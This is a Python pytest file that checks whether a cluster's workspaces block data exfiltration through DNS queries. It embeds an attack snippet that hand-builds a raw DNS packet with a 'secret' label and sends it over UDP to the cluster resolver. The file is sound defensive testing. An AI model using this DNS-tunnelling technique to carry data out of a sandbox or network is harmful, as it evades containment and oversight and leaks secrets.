"""Attack: carry data out in the names that the cluster's DNS is asked for."""

import pytest

from support.arms import Arm, refused

pytestmark = pytest.mark.cluster

ATTACK = r"""
import socket
name = b"".join(bytes([len(p)]) + p for p in (b"secret", b"example", b"org")) + b"\0"
query = b"\x12\x34\x01\0\0\x01" + b"\0" * 6 + name + b"\0\x01\0\x01"
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.settimeout(5)
try:
    channel.sendto(query, ("10.96.0.10", 53))
    print("answered" if channel.recv(512)[:2] == query[:2] else "other")
except OSError as error:
    print(type(error).__name__)
"""


def test_it_gets_through_where_nobody_locks(control: Arm) -> None:
    assert control.python(ATTACK) == "answered"


def test_a_workspace_cannot_ask(workspace: Arm) -> None:
    counted = refused(workspace)
    assert workspace.python(ATTACK) == "PermissionError"
    assert refused(workspace) > counted


LOOKUP = """
import socket
try:
    print(socket.getaddrinfo("example.org", 80))
except OSError as error:
    print(type(error).__name__)
"""


def test_a_workspaces_own_resolver_setting_leads_nowhere(workspace: Arm) -> None:
    assert workspace.python(LOOKUP) == "gaierror"
